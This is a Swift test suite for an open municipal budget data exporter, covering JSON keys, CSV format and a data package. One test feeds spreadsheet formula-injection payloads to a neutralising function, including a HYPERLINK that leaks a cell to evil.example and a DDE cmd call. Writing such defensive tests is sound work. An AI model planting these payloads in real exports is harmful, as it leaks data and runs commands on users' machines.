import AchykBudget
import AchykModel
@testable import AchykRender
import Foundation
import Testing

/// The open data written for each year, against the contract's keys and the normalized table's rules.
@Suite struct BudgetDataTests {
    static let settings = SiteSettings(
        title: LocalizedText([.en: "Open budget"]), baseURL: "https://example.org/", languages: [.ky, .ru, .en],
        organisation: LocalizedText([.en: "Alliance"]), dataLicence: "CC-BY-4.0")

    static func som(_ value: Int) -> Amount { Amount(som: value) }

    static func row(_ line: Int, _ code: String, _ name: String?, _ approved: Amount?, _ executed: Amount?) -> BudgetRow {
        BudgetRow(line: line, code: code, name: name, amounts: BudgetAmounts(approved: approved, executed: executed) ?? BudgetAmounts())
    }

    static func municipality(population: [Int: Int]) -> Municipality {
        Municipality(
            id: "tamchy", name: LocalizedText([.en: "Tamchy"]), kind: .ayilOkmot, oblast: .issykKul, rayon: LocalizedText([:]),
            population: population, isSample: true, contact: nil, sources: [:], hearings: [], path: "budgets/tamchy/municipality.yaml")
    }

    static func figures(population: [Int: Int] = [2023: 4, 2024: 4]) -> MunicipalityFigures {
        let tables = [
            BudgetTable(
                municipality: "tamchy", year: 2023, path: "budgets/tamchy/2023.csv", headerLine: 1, columns: [.approved, .executed],
                rows: [
                    row(2, "1", "Revenue", som(100), som(90)), row(3, "1111", "Tax, \"local\"", som(40), som(30)),
                    row(4, "1331", nil, som(60), som(60)), row(5, "709", nil, som(80), nil), row(6, "710", nil, som(30), som(20)),
                    row(7, "22", nil, som(110), som(20)), row(8, "1111", nil, som(1), nil),
                ],
                warnings: []),
            BudgetTable(
                municipality: "tamchy", year: 2024, path: "budgets/tamchy/2024.csv", headerLine: 1, columns: [.approved, .executed],
                rows: [row(2, "1111", nil, som(50), nil), row(3, "709", nil, som(90), nil)], warnings: []),
        ]
        var diagnostics = Diagnostics()
        let years = tables.compactMap { BudgetAnalyzer().analyze($0, population: population[$0.year], reporting: &diagnostics) }
        return MunicipalityFigures(municipality: municipality(population: population), years: years)
    }

    func object(_ text: String) throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
    }

    @Test func theJSONHasEveryKeyOfTheContract() throws {
        let municipality = Self.figures()
        let data = BudgetData(settings: Self.settings)
        let json = try object(data.json(try #require(municipality.year(2023)), of: municipality))
        #expect(Set(json.keys).isSuperset(of: ["municipality", "year", "currency", "population", "approved", "executed", "revised", "warnings"]))
        #expect(json["municipality"] as? String == "tamchy")
        #expect(json["year"] as? Int == 2023)
        #expect(json["currency"] as? String == "KGS")
        #expect(json["population"] as? Int == 4)
        #expect(json["revised"] is NSNull)
        let approved = try #require(json["approved"] as? [String: Any])
        #expect(Set(approved.keys).isSuperset(of: [
            "revenue", "own_revenue", "transfers", "expenditure", "balance", "revenue_per_resident", "expenditure_per_resident", "by_function",
        ]))
        // 1111 twice (40 + 1), 1331: revenue 101, transfers 60; spending 709 + 710 = 110.
        #expect(approved["revenue"] as? Double == 101)
        #expect(approved["own_revenue"] as? Double == 41)
        #expect(approved["transfers"] as? Double == 60)
        #expect(approved["expenditure"] as? Double == 110)
        #expect(approved["balance"] as? Double == -9)
        #expect(approved["revenue_per_resident"] as? Double == 25.25)
        #expect(approved["expenditure_per_resident"] as? Double == 27.5)
        #expect(approved["by_function"] as? [String: Double] == ["709": 80, "710": 30])
        let executed = try #require(json["executed"] as? [String: Any])
        // 709's blank executed cell counts as zero.
        #expect(executed["expenditure"] as? Double == 20)
        let warnings = try #require(json["warnings"] as? [String])
        #expect(warnings.contains("budgets/tamchy/2023.csv:5: warning: column 'executed' is blank for code 709; counted as zero"))
        #expect(warnings.contains { $0.hasPrefix("budgets/tamchy/2023.csv:8: warning: code 1111 appears again") })
    }

    @Test func aDraftYearHasNullExecutedFiguresAndNoPopulationNullPerResident() throws {
        let municipality = Self.figures(population: [2023: 4])
        let json = try object(BudgetData(settings: Self.settings).json(try #require(municipality.year(2024)), of: municipality))
        #expect(json["executed"] is NSNull)
        #expect(json["population"] is NSNull)
        let approved = try #require(json["approved"] as? [String: Any])
        #expect(approved["revenue_per_resident"] is NSNull)
        #expect(json["status"] as? String == "draft")
        // The change is against 2023's approved figures, as 2024 has no executed ones.
        let change = try #require(json["change"] as? [String: Any])
        #expect(change["previous_year"] as? Int == 2023)
        #expect(change["expenditure"] as? Double == -20)
    }

    /// The file is written in pieces as it is made; cut anywhere, the pieces make the same bytes as the whole.
    @Test(arguments: [1, 30, 1 << 18])
    func theCSVWrittenInPiecesIsTheSameFile(piece: Int) throws {
        let year = try #require(Self.figures().year(2023))
        var pieces: [Data] = []
        try BudgetData.csv(year, piece: piece) { pieces.append($0) }
        let whole = try BudgetData(settings: Self.settings).csvStream(year).collected()
        #expect(pieces.reduce(Data(), +) == whole)
        // A piece of one byte: the header goes with the first line, then a piece a line; a large piece: one.
        if piece == 1 { #expect(pieces.count == year.lines.count) }
        if piece == 1 << 18 { #expect(pieces.count == 1) }
    }

    @Test func theNormalizedCSVFollowsTheContract() throws {
        let municipality = Self.figures()
        let csv = String(decoding: try BudgetData(settings: Self.settings).csvStream(try #require(municipality.year(2023))).collected(), as: UTF8.self)
        let lines = csv.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        #expect(!csv.hasPrefix("\u{FEFF}"))
        #expect(!csv.contains("\r"))
        #expect(lines.first == "code,name_ky,name_ru,name_en,approved,revised,executed")
        // Each code once, in the order of its first line; the duplicate added; the blank detailed cell written 0.
        #expect(lines.dropFirst().map { $0.prefix { $0 != "," } } == ["1", "1111", "1331", "709", "710", "22", ""])
        #expect(lines[1].hasSuffix(",100,,90"))
        #expect(lines[2].hasSuffix(",41,,30"))
        #expect(lines[4].hasSuffix(",80,,0"))
        #expect(lines[2].contains("\"Taxes on income, profits, and capital gains payable by individuals\""))
    }

    /// Found by a hostile review: a formula in a label reached the published CSV as it was.
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(1+1)", "'@SUM(1+1)"), ("-2+3", "'-2+3"), ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"), ("-200", "-200"), ("+5.5", "+5.5"), ("Налоги", "Налоги"), ("a=b", "a=b"), ("", ""),
    ])
    func formulaCellsAreNeutralised(label: String, written: String) {
        #expect(BudgetData.neutralised(label) == written)
    }

    @Test func csvCellsWithCommasQuotesOrLineBreaksAreQuoted() {
        #expect(BudgetData.csvCell("Налоги") == "Налоги")
        #expect(BudgetData.csvCell("Taxes, fees") == "\"Taxes, fees\"")
        #expect(BudgetData.csvCell("say \"hi\"") == "\"say \"\"hi\"\"\"")
        // A CR LF is one Character in Swift, equal neither to "\r" nor to "\n": it was left unquoted before.
        #expect(BudgetData.csvCell("two\r\nlines") == "\"two\r\nlines\"")
    }

    @Test func theDataPackageDescribesEveryFile() throws {
        let package = try object(BudgetData(settings: Self.settings).dataPackage([Self.figures()]))
        let resources = try #require(package["resources"] as? [[String: Any]])
        #expect(resources.compactMap { $0["path"] as? String } == [
            "budgets/tamchy/2023.csv", "budgets/tamchy/2023.json", "budgets/tamchy/2024.csv", "budgets/tamchy/2024.json",
        ])
        for resource in resources {
            let name = try #require(resource["name"] as? String)
            #expect(name.allSatisfy { $0.isLowercase || $0.isNumber || "-_.".contains($0) })
        }
        let schema = try #require(resources.first?["schema"] as? [String: Any])
        let fields = try #require(schema["fields"] as? [[String: String]])
        #expect(fields.map { $0["name"] ?? "" } == ["code", "name_ky", "name_ru", "name_en", "approved", "revised", "executed"])
        #expect(fields.map { $0["type"] ?? "" } == ["string", "string", "string", "string", "number", "number", "number"])
        let licences = try #require(package["licenses"] as? [[String: String]])
        #expect(licences.first?["name"] == "CC-BY-4.0")
    }
}
